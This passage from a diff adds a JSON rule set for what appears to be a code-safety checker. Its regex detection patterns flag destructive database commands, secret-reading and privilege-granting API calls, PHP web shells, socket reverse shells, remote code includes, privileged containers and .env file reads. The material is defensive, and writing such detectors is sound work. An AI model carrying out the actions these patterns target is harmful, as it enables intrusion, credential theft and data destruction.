+ANT"]],"does":"grant","all":true},{"words":[["REVOKE"]],"does":"revoke","all":true},{"words":[["SHUTDOWN"]],"does":"shutdown"},{"words":[["ATTACH"],["DATABASE"]\
+],"does":"attach","name":2},{"words":[["ATTACH"]],"does":"attach","name":1},{"words":[["KILL"]],"does":"kill","name":1},{"words":[["FLUSHALL","FLUSHDB"]],"does"\
+:"flush","name":0},{"words":[["CREATE"],["DATABASE","SCHEMA"]],"does":"create","name":2},{"words":[["PURGE"]],"does":"purge","name":1},{"words":[["CONFIG"],["SE\
+T"],["DIR","DBFILENAME"]],"does":"set-global","name":2},{"words":[["RESET"],["MASTER","REPLICA","SLAVE"]],"does":"purge","name":1}],"signs":{"name-tests":["[=!<\
+>]=|[<>]|\\\\b(?:in|match)\\\\b|=~|\\\\b(?:endswith|startswith|endsWith|startsWith|includes|test|match|search|end_with\\\\?|start_with\\\\?)"],"kind-tests":["is_?(?:dir|f\
+ile|link|symlink)|isDirectory|isFile|isSymbolicLink|exists|(?:directory|file|exist)\\\\?|-[dfel]\\\\b","i"],"age-tests":["[acm]time|birthtime|\\\\bst_size|getsize|\\\\.\
+size\\\\b|file(?:size|mtime)|\\\\s-[MAC]\\\\s"],"secret-methods":["^(?:get|batch_?get)_?secret_?values?$|^(?:access_?secret_?version|get_?secret|read_?secret(?:_?vers\
+ion)?|get_?(?:frozen_?)?credentials)$|^(?:list|read)_?(?:namespaced_?)?secret(?:_?for_?all_?namespaces)?$","i"],"granting-methods":["^(?:attach|put)_?(?:user|ro\
+le|group)_?policy(?:_?command)?$|^authorize_?security_?group_?ingress(?:_?command)?$|^(?:create_?access_?key|add_?user_?to_?group|put_?bucket_?(?:policy|acl))(?\
+:_?command)?$","i"],"emptying-methods":["^(?:empty|obliterate|clear|drop|flush_?(?:all|db|database))(?:_?(?:async|sync))?$|^(?:refresh|drop|reset|clear|wipe|tru\
+ncate|purge)_?(?:all|db|database|schema|tables?|collections?|storage)(?:_?(?:async|sync))?$","i"],"own-addresses":["\\\\blocalhost\\\\b|\\\\b127\\\\.\\\\d|\\\\b0\\\\.0\\\\.0\\\\.\
+0\\\\b|\\\\[?::1\\\\b|^(?:unix|file|sqlite):|^\\\\.{0,2}/"],"service-options":["api_?key|token|secret|credential|password|authorization|access_?key|^(?:basic_?)?auth$|^\
+endpoint$|^(?:base|prefix|org|server|api)_?ur[li]$|^(?:hosts?|servers?|brokers|bootstrap_?servers)$|(?:project|account|subscription|site|space|app|tenant)_?id$"\
+,"i"],"service-variables":["TOKEN|KEY|SECRET|PASS|PAT$|AUTH|CRED|ACCOUNT|ENDPOINT|DSN|(?:UR[LI]|HOST|_ID|SID|DOMAIN|SERVER)$"],"service-addresses":["^(?:https?|\
+wss?|grpcs?|nats|amqps?|ldaps?)://[^/]|^(?:[\\\\w-]+\\\\.)+(?:com|net|org|io|dev|local|internal|cloud|corp)(?::\\\\d+)?$|^\\\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+(?::\\\\d+)?$"],"own-\
+data-modules":["^(?:\\\\.{1,2}|@|~)/(?:[\\\\w./-]*[/.-])?(?:db|database|data-?source|orm|prisma|knex|sequelize|mongoose|models?)(?:[/.-]|$)","i"],"client-makers":["\
+^[A-Z]|^(?:create|connect|init|make|open|new|from|extend|with|get_?client)|(?:client|driver|session|pool|engine|connection|sdk|api)$","i"],"negative-tests":["\\\\\
+bnot\\\\b|!=|!~|!\\\\s*\\\\(?[\\\\w.]+|\\\\bunless\\\\b|\\\\breject\\\\b"],"skips":["\\\\b(?:continue|next|return)\\\\b"],"stdin-names":["^(?:0|-|/dev/(?:stdin|fd/0)|/proc/self/fd/\
+0|php://stdin)$"],"mock-options":["^(?:spec|spec_set|autospec|create|name|unsafe|new_callable|target|attribute|new)$"],"writing-flags":["^File\\\\.(?:Constants\\\\.\
+)?(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$|^(?:os|fs\\\\.constants|constants)?\\\\.?O_(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$"],"sending-methods":["gist|upload|put_?object|c\
+omment|send|post","i"],"deleting-requests":["^\\\\w* DELETE(?: /|$)|^(?:action|op|operation|method|_op_type) [dD]elete|\\\\bmutation\\\\b[\\\\s\\\\S]*(?:\\\\bdelete|Delete)\
+\\\\w*\\\\s*\\\\("],"place-options":["ur[li]|host|server|endpoint|address|database|^db|file|storage|^path$|dsn","i"],"passing-data":["^memory://|:memory:|^(?:sqlite\\\\\
+w*(?:\\\\+\\\\w+)?:/{2,3})?/tmp/|^sqlite://$|^mock$"],"passing-databases":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.))|^(?:[\\\\w.-]+/)*(?:test|tests|tmp|sc\
+ratch)(?:[_-][\\\\w-]*)?\\\\.(?:db|sqlite3?)$"],"harmless-names":["^(?:None|null|undefined|true|false|True|False|(?:\\\\w+\\\\.)*\\\\w*(?:Error|Exception|DEFAULT|Exit|Int\
+errupt))$"],"file-calls":["^(?:fs|FileUtils|File|Dir)\\\\.\\\\w+$|^(?:os\\\\.(?:remove|unlink|rmdir|removedirs|rename|replace|truncate)|shutil\\\\.\\\\w+|pathlib\\\\.\\\\w+)$\
+"],"imitation":["^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:fakeredis|mongomock|pymongo_inmemory|ioredis-mock|redis-mock)\\\\b|^[^#\\\\n]*(?:\\\\b(?:i\
+mport|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:mongodb-memory-server|pg-mem|testcontainers)\\\\b|^from sqlalchemy import .*\\\\bcreate_mock_engine\\\\b|\\\\b(?:miniredis\\\\.(?:\
+Run|RunT|NewMiniRedis)|sqlmock\\\\.New|pgxmock\\\\.New\\\\w*|redismock\\\\.New\\\\w*)\\\\(|^(?![\\\\s\\\\S]*\\\\b(?:DBI|dbi):(?!Mock\\\\b))[\\\\s\\\\S]*\\\\b(?:DBI|dbi):Mock:","m"],"link\
+s-repositories":["worktree|symlink|gitdir|git-dir|\\\\.git['\\"]"],"own-folder":["getcwd|\\\\bcwd\\\\(|__dirname|__file__|abspath|resolve|pwd"],"in-memory":["['\\"](?:s\
+qlite3?:(?:\\\\/\\\\/)?|(?:dbi|DBI):SQLite:(?:dbname=)?)\\\\/(?:tmp|var\\\\/tmp|dev\\\\/shm)\\\\/(?![^'\\"]*\\\\.\\\\.)|['\\"](?:Data ?Source=)?[\\\\w:=/+]*:memory:['\\";]|['\\"]jdbc\
+:(?:h2|hsqldb|derby|sqlite)::?mem|\\\\bSQLite\\\\.DB\\\\(\\\\s*\\\\)|\\\\bSequel\\\\.sqlite\\\\b(?!\\\\s*\\\\(?\\\\s*['\\"])|['\\"]sqlite:\\\\/\\\\/['\\"]"],"database":["\\\\b(?:mongodb|postg\
+res|mysql|mariadb|redis|rediss|mssql|oracle)\\\\w*(?:\\\\+\\\\w+)?:\\\\/\\\\/|['\\"](?!django)[\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]","i"],"driver":["\\\\b(?:psycopg\\\\d?|asyncpg|a\
+iopg|pymysql|MySQLdb|mysql2?|mariadb|cx_Oracle|oracledb|pyodbc|pymssql|pymongo|motor)\\\\b|\\\\b(?:mongoose|mongodb|ioredis|snowflake|clickhouse\\\\w*|DATABASE_URL|DB\
+_URL)\\\\b|['\\"]pg['\\"]"],"own-connection":["(?:^|[\\\\n;])\\\\s*(?:from|import)\\\\s+(?!(?:sqlalchemy|sqlmodel|sqlite3|aiosqlite|tempfile|os|sys|pathlib|shutil|json|re\
+|time|datetime|contextlib|asyncio|typing|uuid|random|pytest|unittest|pandas|dataclasses|textwrap|subprocess|logging|decimal|enum|collections|itertools|functools\
+|alembic)\\\\b)\\\\w|['\\"](?:\\\\.{1,2}|@|~)\\\\/|\\\\bargv\\\\b|\\\\bsymlink|\\\\(\\\\s*['\\"][\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]|(?:sqlite3|apsw)\\\\.Connection|SqliteDatabase"],"emu\
+lated":["^(?![\\\\s\\\\S]*https?:\\\\/\\\\/(?!localhost|127\\\\.))[\\\\s\\\\S]*(?:UseDevelopmentStorage=true|\\\\bapi_base\\\\b[^\\\\n]*['\\"]http:\\\\/\\\\/(?:localhost|127\\\\.))"],"dat\
+a-library":["(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:mikro-orm|typeorm|prisma|sequelize|drizzle|kysely|objection|bookshelf|peewee)|(?:import|from|re\
+quire\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:tortoise|pony|sqlalchemy|sqlmodel|databases|neo4j|cassandra)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:rethinkdb|su\
+rrealdb|influx|libsql|neon|planetscale|duckdb|rq|bull)|\\\\b\\\\w*(?:DATABASE|DB|MONGO|REDIS|POSTGRES|PG|MYSQL)_?(?:URL|URI|DSN)\\\\b","i"],"database-address":["^(?![\
+\\\\s\\\\S]*['\\"]sqlite:)[\\\\s\\\\S]*(?:\\\\w:\\\\/\\\\/|D(?:ATA)?B(?:ASE)?_UR[IL]\\\\b)"],"attaches":["\\\\bATTACH\\\\b","i"],"key-store":["redis|valkey|keydb|memcache","i"],"unc\
+onditional":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|next|select|reject|filter|break|limit|take|first|case)\\\\b|\\\\?))[\\\\s\\\\S]*\\\\w"],"http-client":["^(?!(?:(?![\\\\s\\\\S]*(\
+?:new [\\\\w\\\\\\\\]*Client\\\\b[\\\\s\\\\S]*){2})[\\\\s\\\\S]*\\\\bMock(?:Handler|HttpClient|Response)\\\\b)|[\\\\s\\\\S]*\\\\bHttp::fake\\\\b)[\\\\s\\\\S]*\\\\b(?:GuzzleHttp|HttpClient)\\\\b"],\
+"stubbed-services":["^(?![\\\\s\\\\S]*(?:Client|Resource)\\\\.new\\\\b(?!\\\\([^)]*\\\\bstub_responses: true\\\\b))[\\\\s\\\\S]*\\\\bstub_responses: true\\\\b"],"faked-storage":["^(?\
+![\\\\s\\\\S]*\\\\bStorage::(?:disk|fake)\\\\(\\\\s*[\\"'](?!s3[\\"']))[\\\\s\\\\S]*\\\\bStorage::fake\\\\(\\\\s*[\\"']s3[\\"']\\\\s*\\\\)"],"stubbed-requests":["^(?![\\\\s\\\\S]*\\\\bfetch\\\\([\\\
+\\s\\\\S]*\\\\b(?:nock|fetch)\\\\()(?![\\\\s\\\\S]*(?:\\\\bif\\\\b|\\\\?|process\\\\.env|readFile|enableNetConnect|restore|http2|child_process|globalThis|axios|\\\\bgot\\\\b|needle|su\
+peragent|undici|\\\\bky\\\\b|http://))(?=[\\\\s\\\\S]*?['\\"]nock['\\"])[\\\\s\\\\S]*?\\\\bnock\\\\(\\\\s*['\\"\`](?<host>https://api\\\\.[\\\\w-]{1,40}\\\\.(?:com|io|org|dev))['\\"\`]\\\\)(?!\
+[\\\\s\\\\S]*['\\"\`](?!\\\\k<host>[/'\\"\`])https?:)|^(?![\\\\s\\\\S]*(?:axios|(?:node|cross)-fetch|superagent|needle|\\\\bky\\\\b|request['\\"]|phin|bent|wretch|['\\"](?:got|http\
+s?|http2|net|node:\\\\w+|child_process)['\\"]|enableNetConnect|\\\\bif\\\\b))[\\\\s\\\\S]*\\\\bnew MockAgent\\\\(\\\\)[\\\\s\\\\S]*\\\\bdisableNetConnect\\\\(\\\\)[\\\\s\\\\S]*\\\\bsetGlobalDis\
+patcher\\\\(|^(?![\\\\s\\\\S]*(?:allow_net_connect|disable!|\\\\bif\\\\b|\\\\bunless\\\\b))(?=[\\\\s\\\\S]*?(?:\\\\brequire [\\"']webmock|\\\\binclude WebMock::API\\\\b))(?=[\\\\s\\\\S]*?(?\
+:webmock/(?:rspec|minitest)[\\"']|WebMock\\\\.enable!))[\\\\s\\\\S]*?\\\\bstub_request\\\\b|^(?![\\\\s\\\\S]*(?:Guzzle|curl_|file_get_contents|allowStray|\\\\bif\\\\b|\\\\?|/\\\\*|//(\
+?!\\\\w)|#|function|swap))(?![\\\\s\\\\S]*\\\\bHttp::(?!fake|response)[\\\\s\\\\S]*\\\\bHttp::fake)(?:[\\\\s\\\\S]*?[;\\\\n])?\\\\s{0,9}Http::fake\\\\(\\\\s*(?:\\\\)|\\\\[\\\\s*[\\"']\\\\*[\\"'])"\
+],"dry-files":["^(?![\\\\s\\\\S]*\\\\b(?:FileUtils(?:\\\\.|::(?![DN])\\\\w)|include FileUtils(?!::)|(?:class|module)\\\\s|(?:File(?!\\\\.join)|Dir|Pathname)\\\\b))[\\\\s\\\\S]*\\\\bi\
+nclude FileUtils::(?:DryRun|NoWrite)\\\\b"],"lists-processes":["^(?![\\\\s\\\\S]*\\\\b(?:if|select|grep|when|unless|filter)\\\\b[^\\\\n]*\\\\b(?:comm|cmdline|exe|status|envir\
+on|cwd)\\\\b)[\\\\s\\\\S]*[\\"']/proc(?:[\\"']|/(?:\\\\*|\\\\[|\\\\\\\\d))"],"privileged-container":["^(?=[\\\\s\\\\S]*[dD]ocker)[\\\\s\\\\S]*?\\\\bHostConfig\\\\b[\\\\s\\\\S]{0,300}?(?:Privil\
+eged[\\"']?\\\\s?:\\\\s?true|Binds[\\"']?\\\\s?:\\\\s?(?:\\\\[\\\\]string\\\\{|\\\\[)\\\\s{0,9}[\\"'\\\\x60](?:/|/(?:etc|root|home|var/run/docker\\\\.sock)(?:/[\\\\w.]{0,40})?):)"],"web-s\
+hell":["\\\\b(?:file_put_contents|fwrite|fputs|write\\\\w*|open)\\\\([\\\\s\\\\S]{0,200}<\\\\?php[^\\\\n]{0,80}\\\\b(?:eval|system|exec|passthru|shell_exec|assert)\\\\(\\\\s*\\\\\\\\{0\
+,2}\\\\$_(?:POST|GET|REQUEST|COOKIE)"],"survives-exit":["\\\\bexit\\\\b(?<!\\\\b(?:sys|process)\\\\.exit)|\\\\.exit\\\\s*(?:=(?!=)|\\\\([^()\\\\n]*\\\\)\\\\s*(?:\\\\{|:))|\\\\b(?:mock|pa\
+tch|stub\\\\w*|spyOn|setattr|defineProperty|Proxy|SystemExit|except|finally|catch|with|suppress|assign|delattr)\\\\b|\\\\bsys\\\\b(?!\\\\.(?:exit|argv|stdin|stdout|stderr\
+|version\\\\w*|platform|executable|path)\\\\b)(?<!(?:^|\\\\n)[ \\\\t]*import (?:\\\\w+, ?)*sys)|\\\\bprocess\\\\b(?!\\\\.(?:exit|argv|env|cwd|stdout|stderr|pid|platform|version\
+)\\\\b)|\\\\b(?:sys|process)\\\\.\\\\w+\\\\s*=(?!=)"],"leaves-order":["\\\\\\\\\\\\r?\\\\n|\\\\bgoto\\\\b"],"variable-file":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"network":["\\\\b(?:\\\\w*So\
+cket|socket|net\\\\.(?:Listen|Dial|Conn)|http\\\\.(?:Request|HandleFunc|ListenAndServe)|Tcp(?:Listener|Stream|Client)|gen_tcp|HttpListener|HttpServer)\\\\b"],"serves"\
+:["\\\\b(?:import|from)\\\\s+(?:flask|bottle|fastapi|starlette|quart|sanic|aiohttp|litestar|robyn)\\\\b"],"respawns":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|switch|whe\
+n|argv|ARGV|environ|env|ENV|sleep|reload|watch\\\\w*)\\\\b|\\\\?|&&))[\\\\s\\\\S]*\\\\b(?:spawn|Popen|popen|fork|exec|execFile|proc_open|Start|start)\\\\w*[ (]{1,3}[^;\\\\n]{0,\
+60}(?:execPath|executable|\\\\$\\\\^X|\\\\bruby)\\\\b[^;\\\\n]{0,20}\\\\b(?:__filename|__file__|__FILE__|PROGRAM_NAME)\\\\s?\\\\]?\\\\)|^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|switc\
+h|argv)\\\\b|\\\\?|&&))[\\\\s\\\\S]*(?:\\\\bfunction\\\\s{1,3}(?<declared>\\\\w{1,40})\\\\s?\\\\([^)\\\\n]{0,99}\\\\)|\\\\b(?:const|let|var)\\\\s(?<arrow>\\\\w{1,40})\\\\s?=\\\\s?\\\\([^)\\\\n]{0,\
+99}\\\\)\\\\s?=>)\\\\s?\\\\{[^}]{0,200}\\\\b(?:spawn|execFile|exec|fork)\\\\w{0,9}\\\\([^;}]{0,100}(?:\\\\+ ?\\\\k<declared>\\\\k<arrow>\\\\b(?! ?\\\\()|\\\\$\\\\{\\\\k<declared>\\\\k<arrow>\\\\\
+}|\\\\b\\\\k<declared>\\\\k<arrow>\\\\.toString\\\\()"],"remote-shell":["\\\\bcreateServer\\\\(\\\\s?(?:async\\\\s)?\\\\(?(?<asked>\\\\w{1,20})\\\\s?,\\\\s?\\\\w{1,20}\\\\)?\\\\s?=>[\\\\s\\\\S]{0,\
+400}?\\\\b(?:exec|execSync|spawn|eval)\\\\((?=[^;\\\\n]{0,80}\\\\b\\\\k<asked>\\\\.(?:url|body|query|headers)\\\\b)|^(?=[\\\\s\\\\S]*?(?:IO::Socket|\\\\bsocket\\\\s?\\\\())[\\\\s\\\\S]*\\\\$\
+(\\\\w{1,40})\\\\s*=\\\\s*<\\\\$\\\\w{1,40}>[\\\\s\\\\S]{0,400}(?:\\\\b(?:system|exec|qx|readpipe|open)\\\\b|\`)[^;\\\\n]{0,40}\\\\$\\\\1\\\\b|^(?=[\\\\s\\\\S]*?(?:createServer|net\\\\.connect|\
+createConnection|net\\\\.Socket|WebSocket|require\\\\(['\\"](?:node:)?(?:net|tls)['\\"]\\\\)))[\\\\s\\\\S]*?\\\\b(?<child>\\\\w{1,40})\\\\s?=\\\\s?(?:[\\\\w.]{0,40}(?:\\\\(\\\\s?['\\"\`][\\\
+\\w:]{1,20}['\\"\`]\\\\s?\\\\))?\\\\.)?(?:spawn|execFile)\\\\s?\\\\(\\\\s?['\\\\\\"\`](?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh['\\\\\\"\`][\\\\s\\\\S]{0,2000}?\\\\.pipe\\\\(\\\\s?\\\\k<child>\\\\.stdin|\
+\\\\.(?:get|post|put|patch|all|use)\\\\(\\\\s?['\\\\\\"\`][^'\\\\\\"\`\\\\n]{0,80}['\\\\\\"\`],\\\\s?(?:async\\\\s)?\\\\(?(?<request>\\\\w{1,20})\\\\s?,\\\\s?\\\\w{1,20}\\\\)?\\\\s?=>[\\\\s\\\\S]{0,400}\
+?\\\\b(?:exec|execSync|spawn|spawnSync|eval)\\\\(\\\\s?(?:String\\\\()?\\\\k<request>\\\\.(?:body|query|params)\\\\b|^(?=[\\\\s\\\\S]*?\\\\bnet\\\\.(?:Listen|Dial)\\\\()[\\\\s\\\\S]*\\\\bexe\
+c\\\\.Command\\\\(\\\\\\"(?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh\\\\\\"(?:, ?\\\\\\"-i\\\\\\")?\\\\)[\\\\s\\\\S]{0,200}\\\\.Stdin\\\\b[^\\\\n=]{0,60}=\\\\s?\\\\w"],"business-objects":["\\\\benv\\\\[[\\\
+"'][a-z]\\\\w*\\\\.[\\\\w.]+[\\"']\\\\]\\\\.(?:search|browse)\\\\b"],"remote-code":["\\\\binclude\\\\(\\\\s?(?:Downloads\\\\.)?download\\\\(\\\\s?['\\"]https?://|(?:^|[;{}\\\\n])[ \\\\t]{0,4\
+0}(?:include|require)(?:_once)?[ \\\\t]{0,4}\\\\(?[ \\\\t]{0,4}['\\"](?:https?|ftp)://(?!localhost|127\\\\.)|^(?![\\\\s\\\\S]*\\\\bgem\\\\b)(?:[\\\\s\\\\S]*[;\\\\n])?\\\\s{0,9}(?:devtoo\
+ls::)?source(?:_url)?\\\\(\\\\s?['\\\\\\"]https?://|^(?=[\\\\s\\\\S]*?\\\\bfetch\\\\()(?=[\\\\s\\\\S]*?\\\\bimport\\\\(\\\\s?(?<module>['\\\\\\"][^'\\\\\\"\\\\n]{1,200}['\\\\\\"]))[\\\\s\\\\S]*\\\\b(?:B\
+un\\\\.write|writeFile(?:Sync)?|writeTextFile(?:Sync)?)\\\\(\\\\s?\\\\k<module>"],"cluster-admin":["['\\"]cluster-admin['\\"]"],"role-methods":["^(?:create|patch|replace)\
+_?(?:cluster_?|namespaced_?)role_?binding$","i"],"sets-names":["\\\\b(?:globals|vars|locals|setattr|exec|eval|extract|reload|FunctionType|CodeType)\\\\s*\\\\(|\\\\bimpo\
+rt\\\\s+\\\\*"],"reads-environment":["\\\\bprocess\\\\.env\\\\b|\\\\bos\\\\.environ|\\\\bgetenv\\\\b"],"reaches-around":["\\\\b(?:patch(?:\\\\.\\\\w+)?|setattr)\\\\([^\\\\n]*\\\\)\\\\s+if\\\\b|\\\
+\\bnullcontext\\\\b|__wrapped__|\\\\[['\\"]\\\\w+['\\"]\\\\]\\\\(|mockImplementation\\\\(\\\\s*\\\\)|\\\\bPause\\\\b|\\\\b(?:globals|vars|locals|exec|eval|reload|__dict__|__builtins__|s\
+ys\\\\.modules|import_module|__import__|_getframe|f_globals|gc\\\\.\\\\w+)\\\\b|\\\\b(?:temp_original|get_original|getOriginal|wrappedMethod|(?:require|import)Actual|impo\
+rtOriginal|require\\\\.cache|createRequire|getBuiltinModule|binding)\\\\b|\\\\bimport\\\\s*\\\\*|\\\\bimport\\\\(\\\\s*(?!['\\"\`][/.])|\\\\bReflect\\\\.|\\\\bObject\\\\.(?:assign|define\
+Propert\\\\w+|setPrototypeOf)\\\\(\\\\s*[\\\\w.]+\\\\s*,|\\\\bsyncBuiltin\\\\w+|\\\\bWorker\\\\b|\\\\b(?:def|class|function)\\\\s+(?:patch|mock\\\\w*|\\\\w*Mock|Patcher|Stubber|responses\
+|respx|sinon|jest|vi|nock|setupServer)\\\\b|\\\\.(?:patch|object|\\\\w*Mock|spyOn|stub|method|mock_aws|activate|listen|disableNetConnect)\\\\s*=[^=]|\\\\bpatch\\\\s*="],"pr\
+ocess-tests":["\\\\b(?:name|cmdline|comm|exe)\\\\b"],"names-processes":["\\\\bif\\\\b[^\\\\n]*\\\\b(?:name|cmdline|cmd|exe|comm)\\\\b"],"several-connections":["(?:(?:create_e\
+ngine|newInstance|getConnection|createConnection|new PDO|new DataSource)\\\\s*\\\\([\\\\s\\\\S]*){2}"],"memory-broker":["^(?![\\\\s\\\\S]*(?:conf\\\\b(?!\\\\.task_\\\\w+ ?=)|conf\
+ig|#|\\\\bfrom\\\\s+(?!celery\\\\b)|\\\\bimport\\\\s+(?!Celery\\\\b)))[\\\\s\\\\S]*\\\\bCelery\\\\([^)\\\\n]*\\\\bbroker=['\\"]memory://['\\"]"],"connects":["connection|\\\\.{3}|Object\\\\.a\
+ssign"],"installs-cron":["write_to_user|user\\\\s*="],"by-user":["\\\\busername\\\\b|\\\\buids?\\\\b|[\\"']\\\\w{0,2}[\\"']\\\\s+(?:not\\\\s+)?in\\\\b|\\\\b(?:includes|[sS]tarts_?[wW\
+]ith|ends_?[wW]ith|find|search|match)\\\\(\\\\s*[\\"'/]\\\\w{0,2}[\\"'/]"],"own-settings":["^(?![\\\\s\\\\S]*(?:HOST|database=|using=))[\\\\s\\\\S]*\\\\bsettings\\\\.configure\\\\("]\
+,"production":["\\\\bPROD(?:UCTION)?_\\\\w*(?:UR[LI]|DSN|DB)\\\\b|://[^'\\"\\\\s]*\\\\bprod(?:uction)?[.-]"],"socket-shell":["^(?=[\\\\s\\\\S]*(?:IO::Socket|\\\\bsocket\\\\s*\\\\())\
+[\\\\s\\\\S]*\\\\b(?:open\\\\s*\\\\(?\\\\s*STDIN\\\\s*,\\\\s*[\\"']?[<>+]{0,2}&|STDIN\\\\s*->\\\\s*fdopen)"],"repeats":["\\\\b(?:while|for|foreach|until|loop|redo|goto|times|each\\\\w*|\
+upto|downto|step|cycle|map|select|reduce|def|sub|func\\\\w*|fn|eval|exec\\\\w*|lambda|class|trap|require|include|load|__FILE__|argv|ARGV)\\\\b|->\\\\s*\\\\{|=>\\\\s*\\\\{|\\\\*\
+\\\\s*\\\\d|\\\\bx\\\\s*\\\\d|\\\\bfork\\\\b(?:[\\\\s\\\\S]*?\\\\bfork\\\\b){3}"],"limits":["\\\\bwhere\\\\s*\\\\("],"writes":["\\\\.write|dump|print\\\\s*[{$]|print\\\\([^)\\\\n]*\\\\bfile\\\\s*=|[\\\\\
+w)]\\\\.(?:print|puts)\\\\b|fputs|fprintf|save|copy|pipe|send|<<|to_\\\\w+\\\\(|fwrite|Writer"],"secret-names":["['\\"](?:\\\\w*_)?(?:TOKEN|KEY|SECRET|PASSW\\\\w*|PASS)(?:_\\\
+\\w*)?['\\"]|\\\\b(?:TOKEN|SECRET|PASSWORD)\\\\|"],"encrypts":["\\\\.encrypt\\\\(|createCipher|\\\\bcrypt\\\\.|open\\\\((\\\\w+), *[\\"']w[\\"']\\\\)\\\\.write\\\\( *open\\\\(\\\\1\\\\)"],"rol\
+led-back":["^\\\\s*(?:BEGIN(?: TRANSACTION| WORK)?|START TRANSACTION);(?:\\\\s*(?:SELECT|INSERT|UPDATE|DELETE|SAVEPOINT|EXPLAIN|WITH)\\\\s[^;\\\\\\\\]*;)*\\\\s*ROLLBACK;?\\\\\
+s*$","i"],"keeps-real":["bypass|pause|pass_?thr|add_real|real_http|resume|session\\\\s*=|skip_names|modules_to_|use_known|use_cache|deactivate"],"other-imports":[\
+"^\\\\s*(?:from|import) (?!boto|moto|(?:os|sys|json|re|pytest|datetime)\\\\b)|^\\\\s*import [^\\\\n]*,\\\\s*(?!boto|moto|(?:os|sys|json|re)\\\\b)","m"],"several-clients":["\
+(?:boto3\\\\.(?:client|resource)\\\\([\\\\s\\\\S]*){2}"],"other-requests":["\\\\b(?:httpx|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b"],"other-files":["^(?:import|\
+from) (?:posix|nt|ctypes|_)","m"],"besides-httpx":["\\\\b(?:requests|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b|assert_all_mocked|\\\\busing\\\\b|rollback"],"\
+besides-fetch":["passthrough|bypass|['\\"](?:node:)?(?:net|tls|dgram|http2)['\\"]|socket"],"besides-http":["enableNetConnect|restore|allowUnmocked|passthrough|\\\\b\
+back\\\\b|recorder|NOCK_OFF|adapter|undici|superagent|http2|['\\"](?:node:)?net['\\"]|globalThis|socket|\\\\bky\\\\b|^(?![\\\\s\\\\S]*\\\\bfetch\\\\b[^\\\\n;]{0,20}['\\"]node-fetc\
+h['\\"])[\\\\s\\\\S]*\\\\bfetch\\\\s*\\\\("]},"name_readers":[["^[ \\\\t]*(?:from [\\\\w.]+ )?import (?!.*\\\\bas\\\\b)[\\\\w ,{}*.]*(?= from [\\"']|\\\\s*(?:[;\\\\n]|$))(?: from [\\\\\\"']\
+[\\\\w:/.@-]+[\\\\\\"'])?|\\\\b(?:const|let|var) (?:\\\\w+|\\\\{[\\\\w, ]+\\\\}) ?= ?(?:await import|require)\\\\([\\\\\\"'][\\\\w:/.@-]+[\\\\\\"']\\\\)(?=\\\\s*(?:[;,\\\\n]|$))|^\\\\s*require \
+[\\\\\\"'][\\\\w/-]+[\\\\\\"']",""],["\\\\b(?:pathlib\\\\.)?Path\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)\\\\.read_text\\\\([^()]*\\\\)","\\u00a7T"],["(?<![\\\\w.])open\\\\(\
+\\\\s*[\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?(?:mode=)?[\\"']r[bt]?[\\"'])?(?:, ?\\\\w+=[\\"'][\\\\w-]+[\\"'])?\\\\)","\\u00a7F"],["\\u00a7F\\\\.read\\\\(\\\\)","\\u00a7\
+T"],["\\u00a7F\\\\.readlines\\\\(\\\\)","\\u00a7L"],["(?:(?<![\\\\w.])fs\\\\.|(?<![\\\\w.])require\\\\([\\"'](?:node:)?fs[\\"']\\\\)\\\\.|(?<![\\\\w.]))readFileSync\\\\([\\"'](?:[\\\\w.-]+/\
+)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?(?:[\\"'][\\\\w-]+[\\"']|\\\\{[^{}]*\\\\}))?\\\\)(?:\\\\.toString\\\\(\\\\))?","\\u00a7T"],["\\\\bawait (?:Bun\\\\.file\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env\
+(?:\\\\.[\\\\w-]+)*[\\"']\\\\)\\\\.text\\\\(\\\\)|Deno\\\\.readTextFile\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)|(?:fs|fsp)(?:\\\\.promises)?\\\\.readFile\\\\([\\"'](?:[\\\\w\
+.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?[\\"'][\\\\w-]+[\\"'])?\\\\))","\\u00a7T"],["\\\\bFile\\\\.(?:readlines|foreach|open)\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'\
+](?:, ?chomp: true)?\\\\)","\\u00a7L"],["\\\\bFile\\\\.read\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)","\\u00a7T"],["(?<![\\\\w.])(?:dotenv_values|Dotenv\\\\.parse\
+)\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)","\\u00a7O"],["(?:(?<![\\\\w.])dotenv|(?<![\\\\w.])require\\\\([\\"']dotenv[\\"']\\\\))\\\\.parse\\\\(\\u00a7T\\\\)","\\u00a7O\
